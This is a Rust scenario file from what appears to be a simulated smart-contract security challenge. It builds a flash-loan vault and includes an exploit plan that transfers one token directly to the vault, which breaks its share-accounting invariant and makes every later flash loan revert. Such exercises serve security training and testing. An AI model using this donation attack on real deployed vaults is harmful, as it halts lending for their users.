//! A vault whose flash loans halt once its accounting invariant breaks.
//! This is a defender scenario: it passes when the exploit makes the
//! receiver's next loan revert.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::token::Token;
use gauntlet_common::subsystems::unstoppable::{UnstoppableVault, VaultReceiver};
use gauntlet_common::{Amount, Arg, CallData, FailureKind};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, AssetRef, Assertion, CallSpec, Scenario, ScenarioError,
};

pub const NAME: &str = "unstoppable";

pub fn tokens_in_vault() -> Amount {
    ether(1_000_000)
}

pub fn initial_player_balance() -> Amount {
    ether(10)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let vault = AccountRef::subsystem("vault");
    let player = AccountRef::actor("player");
    let dvt = AssetRef::token("token");
    let deployer = AccountRef::actor("deployer");
    let borrow = CallSpec::new("execute_flash_loan").arg(ether(100));

    Scenario::builder(NAME)
        .description("Direct transfers break the vault's share accounting and halt flash loans")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .actor(ActorDef::observer("user", Amount::zero()))
        .deploy("token", "deployer", Arc::new(Token), vec![])
        .deploy(
            "vault",
            "deployer",
            Arc::new(UnstoppableVault),
            vec![
                AccountRef::subsystem("token").into(),
                deployer.clone().into(),
                deployer.clone().into(),
            ],
        )
        .call(
            "deployer",
            AccountRef::subsystem("token"),
            CallSpec::new("approve")
                .arg(vault.clone())
                .arg(tokens_in_vault()),
        )
        .call(
            "deployer",
            vault.clone(),
            CallSpec::new("deposit").arg(tokens_in_vault()).arg(deployer),
        )
        .fund(player.clone(), dvt.clone(), initial_player_balance())
        .deploy(
            "receiver",
            "user",
            Arc::new(VaultReceiver),
            vec![vault.clone().into()],
        )
        .call("user", AccountRef::subsystem("receiver"), borrow.clone())
        .precondition(Assertion::balance_eq(vault.clone(), dvt.clone(), tokens_in_vault()))
        .precondition(Assertion::returns(
            "user",
            vault.clone(),
            CallSpec::new("total_supply"),
            tokens_in_vault(),
        ))
        .precondition(Assertion::returns(
            "user",
            vault.clone(),
            CallSpec::new("max_flash_loan").arg(AccountRef::subsystem("token")),
            tokens_in_vault(),
        ))
        .precondition(Assertion::returns(
            "user",
            vault,
            CallSpec::new("flash_fee")
                .arg(AccountRef::subsystem("token"))
                .arg(tokens_in_vault() - Amount::one()),
            Arg::Uint(Amount::zero()),
        ))
        .precondition(Assertion::balance_eq(player, dvt, initial_player_balance()))
        .postcondition(Assertion::reverts(
            "user",
            AccountRef::subsystem("receiver"),
            borrow,
            Some(FailureKind::InvariantBroken),
        ))
        .build()
}

/// Donate a single token to the vault outside of `deposit`.
pub struct UnstoppableExploit;

impl Exploit for UnstoppableExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let vault = view.subsystem("vault")?;
        let token = view.subsystem("token")?;
        let donation = CallData::new("transfer").arg(vault).arg(ether(1));
        Ok(vec![Step::call("player", token, donation)])
    }

    fn describe(&self) -> String {
        "donate tokens straight to the vault".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(UnstoppableExploit)
}
